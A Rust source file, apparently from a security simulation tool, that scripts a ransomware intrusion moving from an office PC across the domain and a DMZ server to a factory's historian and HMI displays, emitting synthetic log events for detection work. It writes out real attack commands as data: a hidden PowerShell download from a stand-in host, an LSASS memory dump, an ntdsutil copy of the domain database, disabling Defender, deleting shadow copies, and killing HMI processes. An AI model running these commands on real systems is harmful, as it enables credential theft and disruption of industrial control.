//! Ransomware crosses from the office into a factory.
//!
//! After what is public about Norsk Hydro (2019), Colonial Pipeline (2021) and EKANS: from a document to the domain, from the domain
//! over a trusted server in the DMZ to the historian, and from there to the displays, whose programs are stopped before files
//! are encrypted. Controllers go on; nobody sees them any more.

use super::{CMD, POWERSHELL, Says, Script, Tale};
use crate::clock::{MILLI, MINUTE, Moment, SECOND};
use crate::plant::Asset;
use crate::plant::places::{DC01, FACTORY, FACTORY_HMI3, FS01, HIST01, HMI01, HMI02, MIRROR01, OFFICE, SCADA01};
use crate::sensors::{Launch, SYSTEM};

pub(super) const SCRIPT: Script = Script {
    name: "ransomware",
    title: "Ransomware crosses from the office over the DMZ to the displays of a factory",
    plant: &FACTORY,
    end: Moment::local(5, 0, 30),
    play,
};

const PC: &Asset = &OFFICE[3];
const USER: &str = "deckert";
const ADMIN: &str = "mnolte";
const LOCKER: &str = r"C:\Windows\PSEXESVC.exe";

fn play(tale: &mut Tale<'_>) {
    document(tale);
    credentials(tale);
    servers(tale);
    domain(tale);
    mirror(tale);
    historian(tale);
    displays(tale);
}

fn document(tale: &mut Tale<'_>) {
    tale.step(
        "initial-access",
        "a document from a mail starts PowerShell, which fetches a program",
        &["T1566.001", "T1204.002", "T1059.001", "T1105"],
        "account:deckert asset:office04 address:203.0.113.66",
    );
    let at = tale.before_end(225);
    let fetch = Launch {
        account: USER,
        parent: r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        image: POWERSHELL,
        command: "powershell.exe -nop -w hidden -c \"(New-Object Net.WebClient).DownloadFile('http://203.0.113.66/u.bin','C:\\Users\\Public\\u.exe')\"",
    };
    tale.command(at, PC, fetch);
    let wire = tale.pen.wire(PC.ip, "203.0.113.66", 80);
    let event = tale.pen.http(at.plus(2 * SECOND), &wire, "GET", "203.0.113.66", "/u.bin");
    tale.quiet(event);
    let event = tale.pen.conn(at.plus(2 * SECOND), &wire, "http", 3);
    tale.quiet(event);
}

fn credentials(tale: &mut Tale<'_>) {
    tale.step(
        "credential-access",
        "the memory of LSASS is dumped; an administrator was logged on there",
        &["T1003.001"],
        "account:deckert account:mnolte asset:office04",
    );
    let at = tale.before_end(200);
    let dump = Launch {
        account: USER,
        parent: r"C:\Users\Public\u.exe",
        image: r"C:\Users\Public\procdump64.exe",
        command: r"procdump64.exe -accepteula -ma lsass.exe C:\Users\Public\l.dmp",
    };
    tale.command(at, PC, dump);
    let event = tale.pen.reads_lsass(at.plus(200 * MILLI), PC, dump);
    tale.seen(event);
}

fn servers(tale: &mut Tale<'_>) {
    tale.step(
        "lateral-movement",
        "with the administrator's account to the file server by PsExec",
        &["T1021.002", "T1569.002", "T1570"],
        "account:mnolte asset:office04 asset:fs01",
    );
    let at = tale.before_end(170);
    let pushed = tale.pen.pushed(at, PC.ip, &FS01, ADMIN, "PSEXESVC");
    let marks = tale.pushed(pushed, Says::Nothing);
    tale.hop("asset:office04", "asset:fs01", "remote_execution", Some(("office-services", true)), marks);
    shell_by_service(tale, at.plus(4 * SECOND), &FS01);
}

fn shell_by_service(tale: &mut Tale<'_>, at: Moment, host: &Asset) {
    let shell = Launch { account: SYSTEM, parent: LOCKER, image: CMD, command: "cmd.exe /c hostname" };
    tale.command(at, host, shell);
}

fn domain(tale: &mut Tale<'_>) {
    tale.step(
        "credential-access",
        "from the file server to the domain controller, whose directory is copied",
        &["T1021.001", "T1003.003"],
        "account:mnolte asset:fs01 asset:dc01",
    );
    let at = tale.before_end(140);
    let session = tale.pen.desktop(at, FS01.ip, &DC01, ADMIN, 100);
    let marks = tale.session(session, Says::Nothing, Says::Something);
    tale.hop("asset:fs01", "asset:dc01", "remote_session", None, marks);
    let copy = Launch {
        account: ADMIN,
        parent: CMD,
        image: r"C:\Windows\System32\ntdsutil.exe",
        command: "ntdsutil \"ac i ntds\" \"ifm\" \"create full C:\\Windows\\Temp\\n\" q q",
    };
    tale.command(at.plus(6 * MINUTE), &DC01, copy);
}

fn mirror(tale: &mut Tale<'_>) {
    tale.step(
        "lateral-movement",
        "from the domain controller by remote desktop to the mirror of the historian in the DMZ, past the jump host",
        &["T1021.001", "T0886", "T1562.001"],
        "account:mnolte asset:dc01 asset:mirror01",
    );
    let at = tale.before_end(105);
    let session = tale.pen.desktop(at, DC01.ip, &MIRROR01, ADMIN, 80);
    let marks = tale.session(session, Says::Something, Says::Something);
    tale.hop("asset:dc01", "asset:mirror01", "remote_session", None, marks);
    let off = Launch {
        account: ADMIN,
        parent: CMD,
        image: POWERSHELL,
        command: "powershell -c \"Set-MpPreference -DisableRealtimeMonitoring $true\"",
    };
    tale.command(at.plus(3 * MINUTE), &MIRROR01, off);
}

fn historian(tale: &mut Tale<'_>) {
    tale.step(
        "lateral-movement",
        "from the mirror to the historian in the plant, whose program is stopped and whose backups are deleted",
        &["T1021.002", "T1570", "T0867", "T1489", "T0881", "T1490"],
        "account:mnolte asset:mirror01 asset:hist01",
    );
    let at = tale.before_end(75);
    let pushed = tale.pen.pushed(at, MIRROR01.ip, &HIST01, ADMIN, "PSEXESVC");
    let marks = tale.pushed(pushed, Says::Something);
    tale.hop("asset:mirror01", "asset:hist01", "remote_execution", None, marks);
    let stopped = locks(tale, at.plus(10 * SECOND), &HIST01, "sc stop pinetmgr", r"C:\Windows\System32\sc.exe");
    tale.effect(&HIST01, "encrypted", stopped);
}

fn displays(tale: &mut Tale<'_>) {
    tale.step(
        "impact",
        "from the historian to the server and all displays: their programs are stopped, files are encrypted",
        &["T1486", "T0826", "T0829", "T0881", "T1489", "T1490", "T0867"],
        "account:mnolte asset:hist01 asset:hmi01 asset:hmi02 asset:hmi03 asset:scada01",
    );
    let at = tale.before_end(45);
    let targets: [&'static Asset; 4] = [&HMI01, &HMI02, &FACTORY_HMI3, &SCADA01];
    for (number, host) in (0..).zip(targets) {
        let at = at.plus(number * 90 * SECOND);
        let pushed = tale.pen.pushed(at, HIST01.ip, host, ADMIN, "PSEXESVC");
        let marks = tale.pushed(pushed, Says::Something);
        if number == 0 {
            tale.hop("asset:hist01", "asset:hmi01", "remote_execution", None, marks);
        }
        let kill = "taskkill /F /IM CCRtsLoader_x64.exe /IM PdlRt.exe";
        let stopped = locks(tale, at.plus(10 * SECOND), host, kill, r"C:\Windows\System32\taskkill.exe");
        tale.effect(host, "encrypted", stopped);
    }
}

/// The programs of the host are stopped, its backups deleted, its files encrypted.
fn locks(tale: &mut Tale<'_>, at: Moment, host: &Asset, stop: &str, image: &str) -> Vec<crate::tape::Mark> {
    let stop = Launch { account: SYSTEM, parent: LOCKER, image, command: stop };
    let delete = Launch {
        account: SYSTEM,
        parent: LOCKER,
        image: r"C:\Windows\System32\vssadmin.exe",
        command: "vssadmin delete shadows /all /quiet",
    };
    let mut marks = vec![tale.command(at, host, stop), tale.command(at.plus(2 * SECOND), host, delete)];
    for number in 0..8 {
        let target = format!(r"D:\Projects\screen{number:02}.pdl.halocked");
        let event = tale.pen.creates(
            at.plus(4 * SECOND + number * 90 * MILLI),
            host,
            Launch { image: LOCKER, ..stop },
            &target,
        );
        marks.push(tale.quiet(event));
    }
    let note = Launch { image: LOCKER, ..stop };
    let event = tale.pen.creates(at.plus(6 * SECOND), host, note, r"C:\Users\Public\Desktop\READ-ME.txt");
    marks.push(tale.quiet(event));
    marks
}
